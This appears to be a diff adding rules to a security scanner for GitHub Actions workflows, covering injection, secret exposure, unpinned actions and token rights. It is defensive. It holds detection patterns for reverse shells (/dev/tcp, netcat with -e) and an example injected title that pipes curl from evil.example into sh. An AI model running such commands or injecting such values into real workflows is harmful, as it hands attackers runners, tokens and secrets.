+    "https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/about-security-hardening-with-openid-connect"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "action",
+       "is": "pypa/gh-action-pypi-publish"
+      },
+      {
+       "path": "with.password",
+       "present": true
+      }
+     ],
+     "at": "uses"
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "action",
+       "is": "aws-actions/configure-aws-credentials"
+      },
+      {
+       "path": "with.aws-secret-access-key",
+       "present": true
+      }
+     ],
+     "at": "uses"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-package-without-checks",
+   "title": "Package taken without its lock",
+   "category": "security",
+   "severity": "info",
+   "confidence": "medium",
+   "cwe": [
+    1357
+   ],
+   "owasp": [
+    "A08:2021"
+   ],
+   "tags": [
+    "workflow",
+    "supply-chain",
+    "Scorecard-pinned-dependencies"
+   ],
+   "message": "`{value}` installs what is newest, not what was tested.",
+   "why": "Without the lock file a new version of any dependency, a stolen one as well, runs in the job at once.",
+   "fix": "Use `npm ci`, `pnpm install --frozen-lockfile` or `pip install --require-hashes`.",
+   "references": [
+    "https://docs.npmjs.com/cli/commands/npm-ci"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "each": "commands[*]",
+     "where": [
+      {
+       "path": "name",
+       "is": "npm"
+      },
+      {
+       "path": "subcommand",
+       "is": [
+        "install",
+        "i"
+       ]
+      },
+      {
+       "path": "operands[0]",
+       "absent": true
+      },
+      {
+       "not": {
+        "path": "options[*]",
+        "is": [
+         "-g",
+         "--global",
+         "--package-lock-only"
+        ]
+       }
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-permissions-missing",
+   "title": "Rights of the token not stated",
+   "category": "security",
+   "severity": "low",
+   "confidence": "medium",
+   "cwe": [
+    250,
+    732
+   ],
+   "owasp": [
+    "A01:2021"
+   ],
+   "tags": [
+    "workflow",
+    "permissions",
+    "zizmor-excessive-permissions",
+    "Scorecard-token-permissions",
+    "CICD-SEC-5"
+   ],
+   "message": "`{name}` does not say what its token may do; the repository's setting decides, often everything.",
+   "why": "Repositories from before 2023 give the token of a workflow the right to write nearly everything unless the workflow says otherwise.",
+   "fix": "Write `permissions: { contents: read }` at the top, and more for the job that needs it.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication",
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "workflow"
+     ],
+     "where": [
+      {
+       "path": "permissions",
+       "absent": true
+      },
+      {
+       "path": "jobs{*}",
+       "where": [
+        {
+         "path": "permissions",
+         "absent": true
+        }
+       ]
+      }
+     ],
+     "unless": [
+      {
+       "all": [
+        {
+         "path": "triggers.workflow_call",
+         "present": true
+        },
+        {
+         "not": {
+          "path": "triggers{~^(?!workflow_call$)}",
+          "present": true
+         }
+        }
+       ]
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "workflow"
+     ],
+     "each": "permissions{~^(?:contents|actions|packages|id-token|deployments|pull-requests|issues|checks|statuses|security-events|pages|attestations|repository-projects|discussions)$}",
+     "where": [
+      {
+       "is": "write"
+      },
+      {
+       "check": "several-jobs"
+      }
+     ],
+     "message": "Every job gets `{key}: write`; give it to the one that needs it."
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-reverse-shell",
+   "title": "Connection out to a stranger",
+   "category": "security",
+   "severity": "critical",
+   "confidence": "medium",
+   "cwe": [
+    506
+   ],
+   "owasp": [
+    "A08:2021"
+   ],
+   "tags": [
+    "workflow",
+    "CKV_GHA_4"
+   ],
+   "message": "This step opens a shell to somebody outside.",
+   "why": "A shell whose input and output go to the network gives whoever listens there the runner, its token and its secrets. It is the mark of a taken over workflow.",
+   "fix": "Take it out, find out who put it in, and change every secret of the repository.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "where": [
+      {
+       "path": "run",
+       "matches": "/dev/(?:tcp|udp)/"
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "each": "commands[*]",
+     "where": [
+      {
+       "path": "name",
+       "is": [
+        "nc",
+        "ncat",
+        "netcat"
+       ]
+      },
+      {
+       "path": "options[*]",
+       "is": [
+        "-e",
+        "-c",
+        "--exec",
+        "--sh-exec"
+       ]
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-script-injection",
+   "title": "Script injection by an expression",
+   "category": "security",
+   "severity": "high",
+   "confidence": "high",
+   "cwe": [
+    94,
+    78
+   ],
+   "owasp": [
+    "A03:2021"
+   ],
+   "tags": [
+    "workflow",
+    "injection",
+    "zizmor-template-injection",
+    "CKV_GHA_2",
+    "actionlint-expression",
+    "KICS-run-block-injection",
+    "CICD-SEC-4"
+   ],
+   "message": "`{value}` is pasted into the script; whoever writes it runs commands here.",
+   "why": "GitHub puts the value of an expression into the script before the shell sees it. A title such as `\"; curl evil.example | sh; \"` becomes a command, with the workflow's token and secrets.",
+   "fix": "Hand the value over in `env:` and use the variable, quoted: `env: { TITLE: ${{ … }} }` and `\"$TITLE\"`.",
+   "references": [
+    "https://securitylab.github.com/resources/github-actions-untrusted-input/",
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "each": "expressions[*]",
+     "where": [
+      {
+       "check": "script-injection"
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "each": "expressions[*]",
+     "where": [
+      {
+       "path": "/action",
+       "is": "actions/github-script"
+      },
+      {
+       "check": "script-injection"
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "each": "expressions[*]",
+     "where": [
+      {
+       "check": "free-input"
+      }
+     ],
+     "severity": "medium",
+     "confidence": "medium",
+     "message": "`{value}` is pasted into the script; whoever starts or calls this runs commands here."
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "each": "expressions[*]",
+     "where": [
+      {
+       "path": "/action",
+       "is": "actions/github-script"
+      },
+      {
+       "check": "free-input"
+      }
+     ],
+     "severity": "medium",
+     "confidence": "medium"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-secret-for-all-steps",
+   "title": "Secret in reach of every step",
+   "category": "security",
+   "severity": "low",
+   "confidence": "medium",
+   "cwe": [
+    250,
+    522
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "workflow",
+    "secrets",
+    "GitHub-hardening",
+    "CICD-SEC-6"
+   ],
+   "message": "`{key}` puts a secret into the environment of every step of every job.",
+   "why": "An action that is taken over, a package's install script, a test: each reads its environment. The secret is needed by one of them.",
+   "fix": "Set it in the `env` of the one step that needs it.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "workflow"
+     ],
+     "each": "env{*}",
+     "where": [
+      {
+       "matches": "secrets\\.(?!GITHUB_TOKEN\\b)"
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-secret-in-script",
+   "title": "Secret pasted into a script",
+   "category": "security",
+   "severity": "low",
+   "confidence": "medium",
+   "cwe": [
+    522,
+    532
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "workflow",
+    "secrets",
+    "CKV_GHA_3",
+    "GitHub-hardening"
+   ],
+   "message": "`{value}` is pasted into the script, where other processes and error messages can show it.",
+   "why": "A command line is visible to every process of the machine, and a character in the secret may change what the shell does. Printed in another form, encoded or cut in two, it is no longer hidden in the log.",
+   "fix": "Hand it over in `env:` and use the variable.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "each": "commands[*]",
+     "where": [
+      {
+       "path": "name",
+       "is": [
+        "echo",
+        "printf",
+        "cat",
+        "Write-Host",
+        "Write-Output"
+       ]
+      },
+      {
+       "path": "args[*]",
+       "matches": "\\$\\{\\{\\s*secrets\\."
+      },
+      {
+       "not": {
+        "path": "pipedTo[*]",
+        "present": true
+       }
+      },
+      {
+       "path": "/run",
+       "matches": "^[^>]*$"
+      }
+     ],
+     "severity": "medium",
+     "message": "A secret is printed into the log."
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "each": "expressions[*]",
+     "where": [
+      {
+       "matches": "^secrets\\.(?!GITHUB_TOKEN\\b)"
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-secrets-inherit",
+   "title": "All secrets handed on",
+   "category": "security",
+   "severity": "low",
+   "confidence": "high",
+   "cwe": [
+    250,
+    522
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "workflow",
+    "secrets",
+    "zizmor-secrets-inherit"
+   ],
+   "message": "`{name}` hands every secret to the workflow that it calls.",
+   "why": "The called workflow, and each action in it, gets secrets that it has no use for. Nobody can tell from here which ones it reads.",
+   "fix": "Hand over the secrets that it needs by name.",
+   "references": [
+    "https://docs.github.com/en/actions/how-tos/reuse-automations/reuse-workflows"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "reusable-job"
+     ],
+     "where": [
+      {
+       "path": "secrets",
+       "is": "inherit"
+      },
+      {
+       "path": "uses",
+       "matches": "^(?!\\./)"
+      }
+     ],
+     "severity": "medium"
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "reusable-job"
+     ],
+     "where": [
+      {
+       "path": "secrets",
+       "is": "inherit"
+      },
+      {
+       "path": "uses",
+       "matches": "^\\./"
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-self-hosted-runner",
+   "title": "Strangers on your own machine",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "medium",
+   "cwe": [
+    250,
+    829
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "workflow",
+    "runner",
+    "zizmor-self-hosted-runner",
+    "CICD-SEC-7"
+   ],
+   "message": "`{name}` runs pull requests on a machine of yours.",
+   "why": "Whoever opens a pull request to a public repository runs code on the runner, which is not thrown away afterwards: he can stay on it, reach your network, and change later builds.",
+   "fix": "Use GitHub's runners for pull requests, or runners that live for one job.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#hardening-for-self-hosted-runners"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "job"
+     ],
+     "where": [
+      {
+       "path": [
+        "runs-on.labels[*]",
+        "runs-on[*]"
+       ],
+       "is": "self-hosted"
+      },
+      {
+       "path": "^triggers{~^pull_request(?:_target)?$}",
+       "present": true
+      }
+     ],
+     "at": "runs-on"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-spoofable-bot",
+   "title": "Bot known by its name alone",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "medium",
+   "cwe": [
+    290,
+    807
+   ],
+   "owasp": [
+    "A07:2021"
+   ],
+   "tags": [
+    "workflow",
+    "zizmor-bot-conditions"
+   ],
+   "message": "`{value}` asks who started the run, not who wrote the change.",
+   "why": "`github.actor` is whoever caused the last event. A stranger can have the bot do that on his own pull request (`@dependabot recreate`), and passes for it.",
+   "fix": "Ask for the author: `github.event.pull_request.user.login == 'dependabot[bot]'`.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "job"
+     ],
+     "where": [
+      {
+       "path": "if",
+       "matches": "github\\.(?:triggering_)?actor *== *['\"][\\w-]{1,60}\\[bot\\]"
+      },
+      {
+       "path": "^triggers{~^pull_request(?:_target)?$|^workflow_run$|^issue_comment$}",
+       "present": true
+      }
+     ],
+     "at": "if"
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "step"
+     ],
+     "where": [
+      {
+       "path": "if",
+       "matches": "github\\.(?:triggering_)?actor *== *['\"][\\w-]{1,60}\\[bot\\]"
+      },
+      {
+       "path": "^^triggers{~^pull_request(?:_target)?$|^workflow_run$|^issue_comment$}",
+       "present": true
+      }
+     ],
+     "at": "if"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-token-kept",
+   "title": "Token left in the checkout",
+   "category": "security",
+   "severity": "low",
+   "confidence": "low",
+   "cwe": [
+    522
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "workflow",
+    "secrets",
+    "zizmor-artipacked"
+   ],
+   "message": "The checkout leaves the job's token in `.git/config`, for every later step.",
+   "why": "Every step after it can read the token there, and an uploaded folder takes it along.",
+   "fix": "Set `persist-credentials: false` unless the job pushes.",
+   "references": [
+    "https://github.com/actions/checkout#usage"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "action",
+       "is": "actions/checkout"
+      },
+      {
+       "path": "with.persist-credentials",
+       "default": true,
+       "is": true
+      },
+      {
+       "check": "uploads-workspace"
+      }
+     ],
+     "severity": "medium",
+     "confidence": "high",
+     "at": "uses",
+     "message": "The token that the checkout leaves in `.git/config` is uploaded with the folder.",
+     "fix": {
+      "title": "Leave no token",
+      "set": "with.persist-credentials",
+      "to": "false"
+     }
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "action",
+       "is": "actions/checkout"
+      },
+      {
+       "path": "with.persist-credentials",
+       "default": true,
+       "is": true
+      }
+     ],
+     "at": "uses",
+     "fix": {
+      "title": "Leave no token",
+      "set": "with.persist-credentials",
+      "to": "false"
+     }
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-unpinned-action",
+   "title": "Action not pinned to a commit",
+   "category": "security",
+   "severity": "low",
+   "confidence": "high",
+   "cwe": [
+    829,
+    1357
+   ],
+   "owasp": [
+    "A08:2021"
+   ],
+   "tags": [
+    "workflow",
+    "supply-chain",
+    "zizmor-unpinned-uses",
+    "KICS-unpinned-actions",
+    "Scorecard-pinned-dependencies",
+    "CICD-SEC-3"
+   ],
+   "message": "`{value}` names a tag or branch, which its owner, or a thief of the account, can move.",
+   "why": "The step runs with the job's token and secrets. A tag that is moved to other code reaches every workflow that uses it at its next run, as happened to `tj-actions/changed-files`.",
+   "fix": "Pin to the full commit hash, with the version behind it as a comment; a bot keeps it up to date.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "ref",
+       "matches": "^(?:main|master|develop|dev|trunk|latest|next|edge|HEAD)$"
+      }
+     ],
+     "severity": "medium",
+     "at": "uses",
+     "message": "`{value}` follows a branch: each push to it runs here at once."
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "action",
+       "present": true
+      },
+      {
+       "path": "ref",
+       "absent": true
+      }
+     ],
+     "severity": "medium",
+     "at": "uses"
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "ref",
+       "matches": "^(?![0-9a-f]{40}$|[0-9a-f]{64}$)"
+      },
+      {
+       "not": {
+        "path": "owner",
+        "is": [
+         "actions",
+         "github"
+        ]
+       }
+      }
+     ],
+     "at": "uses"
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "uses",
+       "matches": "^docker://[^@]+$"
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "reusable-job"
+     ],
+     "where": [
+      {
+       "path": "uses",
+       "matches": "^(?!\\./)[^@]+@(?![0-9a-f]{40}$)"
+      }
+     ],
+     "at": "uses"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-unsecure-commands",
+   "title": "Commands from the log allowed",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "high",
+   "cwe": [
+    74,
+    94
+   ],
+   "owasp": [
+    "A03:2021"
+   ],
+   "tags": [
+    "workflow",
+    "injection",
+    "CKV_GHA_1",
+    "zizmor-insecure-commands",
+    "KICS-unsecured-commands"
+   ],
+   "message": "Whatever a step prints may set variables and the path for the steps after it.",
+   "why": "`set-env` and `add-path` were switched off since any text in the log, a commit message for instance, could set `LD_PRELOAD` or `PATH` and so run code.",
+   "fix": "Write to the files `$GITHUB_ENV`, `$GITHUB_PATH` and `$GITHUB_OUTPUT`.",
+   "references": [
+    "https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "workflow",
+      "job",
+      "step"
+     ],
+     "each": "env.ACTIONS_ALLOW_UNSECURE_COMMANDS",
+     "where": [
+      {
+       "is": true
+      }
+     ],
+     "fix": {
+      "title": "Do not allow them",
+      "replace": ".",
+      "to": "false"
+     }
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "where": [
+      {
+       "path": "run",
+       "matches": "::(?:set-env|add-path)[ :]"
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "where": [
+      {
+       "path": "run",
+       "matches": "::(?:set-output|save-state)[ :]"
+      }
+     ],
+     "severity": "low",
+     "message": "The command that this step prints is deprecated: any text in the log could give it."
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-unsound-condition",
+   "title": "Condition that lets too much through",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "medium",
+   "cwe": [
+    571,
+    697
+   ],
+   "owasp": [],
+   "tags": [
+    "workflow",
+    "zizmor-unsound-contains",
+    "zizmor-unsound-condition",
+    "actionlint-if-cond"
+   ],
+   "message": "This condition is true more often than it looks.",
+   "why": "`contains('main develop', github.ref_name)` also holds for a branch called `a`; and text round `${{ … }}`, a line break even, makes a condition that is always true.",
+   "fix": "Compare with `==`, or `contains(fromJSON('[\"main\", \"develop\"]'), …)`; write the whole condition as one expression.",
+   "references": [
+    "https://docs.github.com/en/actions/reference/workflows-and-actions/expressions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "job",
+      "step"
+     ],
+     "where": [
+      {
+       "path": "if",
+       "matches": "contains\\( *['\"][^'\"]{1,200}['\"] *, *github\\."
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "job",
+      "step"
+     ],
+     "each": "if",
+     "where": [
+      {
+       "check": "always-true"
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-untrusted-checkout",
+   "title": "Code of strangers with your rights",
+   "category": "security",
+   "severity": "high",
+   "confidence": "high",
+   "cwe": [
+    829,
+    94
+   ],
+   "owasp": [
+    "A08:2021"
+   ],
+   "tags": [
+    "workflow",
+    "zizmor-dangerous-triggers",
+    "CodeQL-untrusted-checkout",
+    "CICD-SEC-4"
+   ],
+   "message": "Code of a pull request is checked out in a workflow that has your secrets and a token that may write.",
+   "why": "`pull_request_target`, `workflow_run` and `issue_comment` run in the name of your repository. What the pull request brings, a build script, a test, a package's install hook, runs with those rights.",
+   "fix": "Use `pull_request`; or part the work in two: an unprivileged workflow that builds, and one that only reads its results.",
+   "references": [
+    "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "action",
+       "is": "actions/checkout"
+      },
+      {
+       "path": "with.ref",
+       "source": "pull_request\\.(?:head|merge_commit_sha)|github\\.head_ref|workflow_run\\.(?:head_|pull_requests)|refs/pull/|event\\.(?:number|issue\\.number|pull_request\\.number)"
+      },
+      {
+       "path": "^^triggers{~^(?:pull_request_target|workflow_run|issue_comment)$}",
+       "present": true
+      }
+     ],
+     "at": "with.ref"
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "action",
+       "is": "actions/checkout"
+      },
+      {
+       "path": "with.repository",
+       "source": "pull_request\\.head\\.repo|workflow_run\\.head_repository"
+      },
+      {
+       "path": "^^triggers{~^(?:pull_request_target|workflow_run|issue_comment)$}",
+       "present": true
+      }
+     ],
+     "at": "with.repository"
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "where": [
+      {
+       "path": "commands[*].text",
+       "matches": "gh pr checkout|hub pr checkout|refs/pull/|git (?:checkout|fetch|pull|switch) [^\\n]{0,40}(?:github\\.event\\.pull_request\\.head|github\\.head_ref|pull/\\$)"
+      },
+      {
+       "path": "^^triggers{~^(?:pull_request_target|workflow_run|issue_comment)$}",
+       "present": true
+      }
+     ],
+     "at": "run"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-write-all",
+   "title": "Token that may write everything",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "high",
+   "cwe": [
+    250,
+    732
+   ],
+   "owasp": [
+    "A01:2021"
+   ],
+   "tags": [
+    "workflow",
+    "permissions",
+    "CKV2_GHA_1",
+    "zizmor-excessive-permissions",
+    "Scorecard-token-permissions",
+    "CICD-SEC-5"
+   ],
+   "message": "`{name}` gives its token every right in the repository.",
+   "why": "Every step, every action and every package that a build installs can use the token. With all rights it can push code, publish packages and change releases.",
+   "fix": "List the rights that are needed, `contents: read` first.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication",
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "workflow",
+      "job"
+     ],
+     "where": [
+      {
+       "path": "permissions",
+       "is": "write-all"
+      }
+     ],
+     "fix": {
+      "title": "Read the code alone",
+      "replace": "permissions",
+      "to": "{ contents: read }"
      }
     }
    ],
